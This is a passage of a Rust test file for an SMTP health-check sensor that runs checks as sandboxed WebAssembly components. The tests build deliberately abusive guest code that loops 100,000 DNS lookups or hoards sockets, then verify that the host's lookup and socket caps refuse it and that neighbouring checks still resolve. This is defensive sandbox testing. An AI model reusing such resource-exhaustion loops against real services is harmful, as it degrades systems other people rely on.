         (if (i32.and (i32.eq (local.get $refused) (i32.const {first_refused}))
                      (i32.eq (local.get $ok) (i32.const {expected_ok})))
             (then unreachable))
         (i32.div_u (i32.const 1) (i32.const 0))",
        first_refused = expected_ok + 1,
    )
}

/// A component that looks up its own target 100,000 times, dropping each lookup at once,
/// gets the check's eight and then `permanent-resolver-failure`, said once in the
/// message; the loop ends at once, and a neighbouring check's lookup still answers in time.
#[tokio::test(flavor = "multi_thread")]
async fn a_lookup_loop_is_bounded_and_the_neighbours_still_resolve() {
    use smtp_sensor_guest::limits::MAX_LOOKUPS_PER_CHECK;
    use smtp_sensor_tests::server::{ScriptedServer, normal};
    // One network handle for all the lookups, kept at 3072.
    let network = "(i32.store (i32.const 3072) (call $network))";
    let lookup = "(call $resolve (i32.load (i32.const 3072)) (i32.const 2048) (i32.const 9) (i32.const 4096))";
    let body = count_until_refused(
        network,
        lookup,
        "(call $drop_lookup (i32.load (i32.const 4100)))",
        100_000,
        MAX_LOOKUPS_PER_CHECK,
        PERMANENT_RESOLVER_FAILURE,
    );
    let hostile = Runner::from_bytes(&networked_component("localhost", &body)).unwrap();
    let neighbour = Runner::embedded().unwrap();
    let server = ScriptedServer::start(normal()).await;
    let mut settings = checked_against("localhost", server.port());
    settings.ip_version = smtp_sensor_host::wit::IpVersion::Ipv4;
    let own = checked_against("localhost", 25);
    let started = Instant::now();
    let (looped, neighbour) = tokio::join!(hostile.check(&own), async {
        // Once the loop is under way.
        tokio::time::sleep(Duration::from_millis(20)).await;
        neighbour.check(&settings).await
    });
    let why = component_failure(&looped);
    assert!(
        why.contains("unreachable"),
        "not refused after the budget: {why}"
    );
    assert!(
        looped.message.ends_with(&format!(
            "(the sandbox refused a lookup beyond the {MAX_LOOKUPS_PER_CHECK} a check may \
             make; and {} more)",
            100_000 - MAX_LOOKUPS_PER_CHECK - 1
        )),
        "{}",
        looped.message
    );
    assert_eq!(neighbour.status, Status::Up, "{}", neighbour.message);
    assert!(
        started.elapsed() < Duration::from_secs(4),
        "took {:?}",
        started.elapsed()
    );
}

/// A component that creates sockets and keeps them gets `new-socket-limit` past the
/// check's eight open at once (wasmtime-wasi alone would let it hold a descriptor for each
/// of its 1,024 resources); one that closes each socket it made may go on.
#[tokio::test(flavor = "multi_thread")]
async fn a_component_that_opens_sockets_until_refused_gets_eight() {
    use smtp_sensor_guest::limits::MAX_OPEN_SOCKETS;
    let create = "(call $tcp_socket (i32.const 0) (i32.const 4096))";
    let hoard = count_until_refused("", create, "", 10_000, MAX_OPEN_SOCKETS, NEW_SOCKET_LIMIT);
    let (why, message) = run_networked("", &hoard, &checked_against("127.0.0.1", 25)).await;
    assert!(why.contains("unreachable"), "not refused at the cap: {why}");
    assert!(
        message.contains(&format!(
            "(the sandbox refused a socket beyond the {MAX_OPEN_SOCKETS} a check may hold \
             open at once; and "
        )),
        "{message}"
    );
    // Closing each socket: a thousand in turn, none refused (the cap counts open ones).
    let churn = format!(
        "(local $i i32)
         (loop $more
           {create}
           (if (i32.load8_u (i32.const 4096)) (then (i32.div_u (i32.const 1) (i32.const 0)) drop))
           (call $drop_socket (i32.load (i32.const 4100)))
           (local.set $i (i32.add (local.get $i) (i32.const 1)))
           (br_if $more (i32.lt_u (local.get $i) (i32.const 1000))))
         unreachable"
    );
    let (why, message) = run_networked("", &churn, &checked_against("127.0.0.1", 25)).await;
    assert!(
        why.contains("unreachable"),
        "a closed socket still counted: {why}"
    );
    assert!(!message.contains("sandbox refused"), "{message}");
}
